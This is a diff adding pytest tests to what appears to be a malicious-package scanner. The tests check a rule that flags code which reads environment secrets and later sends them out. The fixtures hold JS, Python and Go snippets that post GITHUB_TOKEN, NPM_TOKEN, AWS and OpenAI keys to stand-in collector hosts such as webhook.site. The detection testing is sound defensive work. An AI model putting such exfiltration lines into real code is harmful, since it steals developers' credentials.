@@ -291,6 +291,116 @@ const res = await fetch("https://api.github.com/user", {
     assert "mp.creds.secret-in-header" not in rules_of(result)
 
 
+# --- secrets named first and sent later ------------------------------------------------------
+
+SECRET_FLOWS = {
+    "js-body": """
+const t = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
+fetch('https://api.t-stats.dev/t', { method: 'POST', body: t });
+""",
+    "js-destructured": """
+const { NPM_TOKEN, HOME } = process.env;
+const report = { home: HOME };
+axios.post("https://collect.example.net/r", { report, NPM_TOKEN });
+""",
+    "py-form": """
+import os, requests
+key = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
+def sync():
+    requests.post("https://sync.example.org/k", data={"k": key}, timeout=5)
+""",
+    "js-url-name": """
+const HOOK = "https://webhook.site/3f2a";
+const token = process.env.NPM_TOKEN;
+fetch(HOOK, { method: "POST", body: JSON.stringify({ token }) });
+""",
+    "py-url": """
+import os, urllib.request
+secret = os.getenv("OPENAI_API_KEY")
+urllib.request.urlopen(f"https://stats.example.org/v?id={secret}")
+""",
+    "go-body": """
+tok := os.Getenv("GITHUB_TOKEN")
+http.Post("https://u.example.net/up", "text/plain", strings.NewReader(tok))
+""",
+}
+
+
+@pytest.mark.parametrize("name", sorted(SECRET_FLOWS))
+def test_secret_bound_then_sent_to_a_written_url_is_evidence(name):
+    """A name bound to an environment secret and sent by a later request is contributory evidence."""
+    path = "main.go" if name.startswith("go") else "pkg/a.py" if name.startswith("py") else "package/index.js"
+    assert "mp.creds.secret-flow" in rules_of(run_precheck(added((path, SECRET_FLOWS[name])), PACKAGE))
+
+
+def test_registry_token_bound_then_posted_is_voted():
+    """A registry token read into a name and posted out earns the rules detector's vote."""
+    voted(added(("package/index.js", SECRET_FLOWS["js-body"])), "mp.creds.secret-flow")
+
+
+SECRET_USES = {
+    "bearer-header": """
+const token = process.env.GITHUB_TOKEN;
+const res = await fetch("https://api.github.com/user", { headers: { Authorization: `token ${token}` } });
+""",
+    "url-from-caller": """
+import os, requests
+token = os.environ.get("API_TOKEN", "")
+def fetch(url):
+    return requests.get(url, headers={"Authorization": f"Bearer {token}"}, timeout=10)
+""",
+    "requests-auth": """
+import os, requests
+password = os.environ["SERVICE_PASSWORD"]
+requests.get("https://api.example.com/v1/me", auth=("svc", password))
+""",
+    "database": """
+import os, psycopg
+password = os.environ["DB_PASSWORD"]
+conn = psycopg.connect(host="db", password=password)
+""",
+    "not-a-secret": """
+const home = process.env.HOME;
+fetch("https://example.com/ping", { method: "POST", body: home });
+""",
+    "name-in-host": """
+const t = process.env.NPM_TOKEN;
+npmFetch(t);
+fetch("https://t.example.com/t-stats", { method: "GET" });
+""",
+}
+
+
+@pytest.mark.parametrize("name", sorted(SECRET_USES))
+def test_secret_used_to_authenticate_or_kept_is_not_a_flow(name):
+    """A token that authenticates, stays local, or is only a host's letter is not this evidence."""
+    result = run_precheck(
+        added(("pkg/a.py" if "import" in SECRET_USES[name] else "package/index.js", SECRET_USES[name])),
+        PACKAGE,
+    )
+    assert "mp.creds.secret-flow" not in rules_of(result)
+
+
+def test_client_secret_sent_to_a_token_endpoint_is_weak_alone():
+    """An OAuth client posting its secret to the token endpoint is the flow's shape, so the flow
+    counts only beside other evidence: alone it earns no vote."""
+    body = """
+import os, requests
+TOKEN_URL = "https://oauth2.googleapis.com/token"
+secret = os.environ["GOOGLE_CLIENT_SECRET"]
+def exchange(code):
+    return requests.post(TOKEN_URL, data={"code": code, "client_secret": secret}, timeout=10).json()
+"""
+    result = passes(added(("pkg/auth.py", body)))
+    assert "mp.creds.secret-flow" in rules_of(result)
+
+
+def test_secret_flow_reads_only_code_files():
+    """A README showing the same two lines is documentation, not package behaviour."""
+    result = run_precheck(added(("README.md", SECRET_FLOWS["js-body"])), PACKAGE)
+    assert "mp.creds.secret-flow" not in rules_of(result)
+
+
 # --- AI agent CLIs ----------------------------------------------------------------------------
 
 AGENT_WIPER = """
